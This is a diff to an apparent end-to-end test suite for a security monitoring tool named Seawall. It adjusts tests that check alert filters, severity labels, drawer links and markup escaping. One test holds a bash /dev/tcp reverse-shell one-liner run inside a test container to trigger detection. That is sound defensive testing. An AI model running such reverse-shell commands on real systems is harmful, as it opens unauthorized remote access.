@@ -49,17 +49,19 @@ def row(page: Page, text: str):
 @pytest.mark.skipif(os.geteuid() != 0, reason="loads eBPF programs: needs root")
 @pytest.mark.usefixtures("agent")
 def test_a_reverse_shell_appears_by_itself_and_is_handled(open_page, served, cookie, victim, listener):
-    page = open_page(served, cookie, "/alerts?severity=critical&category=reverse_shell&q=" + NAME)
+    page = open_page(served, cookie, "/alerts?rule=reverse_shell_socket&category=reverse_shell&q=" + NAME)
     expect(page.get_by_text("Nothing matches these filters")).to_be_visible()
     gateway = docker_cli("inspect", "-f", "{{.NetworkSettings.Gateway}}", NAME)
     script = f"exec 3<>/dev/tcp/{gateway}/{listener}; bash -c 'sleep 1' <&3 >&3 2>&3"
     docker_cli("exec", NAME, "bash", "-c", script)
 
-    expect(row(page, NAME).first).to_contain_text("Critical")
+    expect(row(page, NAME).first).to_contain_text(re.compile("Critical|High"))
     row(page, NAME).first.locator("td").nth(2).click()
     drawer = page.get_by_role("dialog")
     expect(drawer).to_contain_text(f"{gateway}:{listener}")
-    expect(drawer.get_by_role("link", name=NAME)).to_have_attribute("href", f"/containers/{victim}")
+    expect(drawer.locator("[data-test=sentence]").get_by_role("link", name=NAME)).to_have_attribute(
+        "href", f"/containers/{victim}"
+    )
     expect(drawer).to_contain_text("seawall-test:bash")
     expect(drawer).to_contain_text("Alert only")
     expect(drawer).to_contain_text("What to do")
@@ -134,7 +136,7 @@ def test_an_alert_full_of_markup_is_only_text(open_page, served, cookie, node):
     page = open_page(served, cookie, "/alerts?q=evil")
     row(page, "evil").locator("td").nth(2).click()
     expect(page.get_by_role("dialog").locator("[data-test=chain]")).to_contain_text("onerror")
-    assert page.title() == "Alerts · Seawall"
+    assert page.title() == "All alerts · Seawall"
 
 
 def test_a_viewer_sees_and_does_not_act(open_page, served, cookie, admin, node):
